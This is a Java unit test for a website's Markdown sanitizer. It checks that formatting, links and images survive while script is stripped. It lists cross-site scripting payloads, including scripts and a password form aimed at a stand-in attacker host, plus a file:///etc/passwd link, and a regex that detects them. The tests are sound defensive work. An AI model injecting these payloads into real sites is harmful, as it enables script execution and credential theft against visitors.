package org.secretariat.website.impl.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

/** Staff's Markdown as the public gets it: formatting, links and images kept, nothing that runs. */
class MarkdownTest {

    private final Markdown markdown = new Markdown();

    /** An element of these kinds, an event handler, a style, or an address that runs or embeds. */
    private static final Pattern DANGER = Pattern.compile("(?i)<\\s*(script|iframe|svg|object|embed|style|form|input|math|base|link|meta)"
            + "|<[^>]*\\son[a-z]+\\s*=|<[^>]*\\sstyle\\s*=|(href|src)\\s*=\\s*\"\\s*(javascript|vbscript|data|file):");

    private static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><circle r=10/></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
            "<a href=\"javascript:alert(1)\">raw link</a>",
            "<div style=\"background:url(javascript:alert(1))\">styled</div>",
            "<style>body{display:none}</style>",
            "<form action=\"https://evil.example/\"><input name=password></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click]( javascript:alert(1) )",
            "[click](java&#x09;script:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "[click](vbscript:msgbox(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](file:///etc/passwd)",
            "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "![pixel](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](/media/1/x.png)",
            "[x](/media/1/x.png \"title\\\" onmouseover=\\\"alert(1)\")",
            "<javascript:alert(1)>",
            "[ref]\n\n[ref]: javascript:alert(1)",
            "[x](//evil.example/x)",
            "<details open ontoggle=alert(1)>",
            "<!-- <script>alert(1)</script> -->",
            "```html\n<script>alert(1)</script>\n```",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |");

    @Test
    void noVectorSurvives() {
        for (String vector : VECTORS) {
            String html = markdown.render(vector).html();
            assertFalse(DANGER.matcher(html).find(), vector + "\n  became: " + html);
            assertFalse(html.toLowerCase(Locale.ROOT).contains("href=\"//"), vector + "\n  became: " + html);
        }
    }

    @Test
    void rawHtmlIsShownAsTextNotMarkup() {
        assertEquals("<p>&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n",
                markdown.render("<b>bold</b> <script>alert(1)</script>").html());
        assertEquals("<p>&lt;img src&#61;x onerror&#61;alert(1)&gt;</p>\n", markdown.render("<img src=x onerror=alert(1)>").html());
    }

    @Test
    void linksToThisSiteAndTheWebAreKept() {
        assertEquals("<p><a href=\"https://www.clusterconvention.org/\" rel=\"nofollow\">the Convention</a> and "
                + "<a href=\"/en/about/history\" rel=\"nofollow\">its history</a> and <a href=\"mailto:isu&#64;example.org\" rel=\"nofollow\">write</a></p>\n",
                markdown.render("[the Convention](https://www.clusterconvention.org/) and [its history](/en/about/history) and [write](mailto:isu@example.org)")
                        .html());
    }

    @Test
    void imagesFromTheMediaLibraryAreKept() {
        assertEquals("<p><img src=\"/media/12/photo.jpg\" alt=\"Clearance in 2024\" /></p>\n",
                markdown.render("![Clearance in 2024](/media/12/photo.jpg)").html());
        assertEquals("<p><a href=\"/media/13/report-2024.pdf\" rel=\"nofollow\">Annual report</a></p>\n",
                markdown.render("[Annual report](/media/13/report-2024.pdf)").html());
    }

    @Test
    void headingsStartBelowThePageTitle() {
        assertEquals("<h2>Mandate</h2>\n<h2>Members</h2>\n<h3>Geneva</h3>\n", markdown.render("# Mandate\n\n## Members\n\n### Geneva").html());
    }

    @Test
    void tablesListsQuotesAndCodeAreKept() {
        String html = markdown.render("| State | Status |\n|:---|---:|\n| Norway | **Party** |\n\n- one\n- two\n\n3. three\n4. four\n\n"
                + "> quoted\n\n`code` and ~~no~~\n\n---").html();
        for (String kept : List.of("<table>", "<thead>", "<th align=\"left\">State</th>", "<td align=\"right\"><strong>Party</strong></td>",
                "<ul>", "<li>one</li>", "<ol start=\"3\">", "<blockquote>", "<code>code</code>", "<hr />")) {
            assertTrue(html.contains(kept), kept + " in " + html);
        }
    }

    @Test
    void plainTextDropsTheFormattingAndIsCut() {
        assertEquals("Mandate The unit supports States Parties.", markdown.plainText("# Mandate\n\nThe *unit* supports [States Parties](/en/states).", 100));
        assertEquals("Mandate The…", markdown.plainText("# Mandate\n\nThe *unit* supports.", 12));
        assertEquals("", markdown.plainText(null, 10));
        assertEquals("", markdown.render(null).html());
        assertEquals("", markdown.render("  \n").html());
    }
}
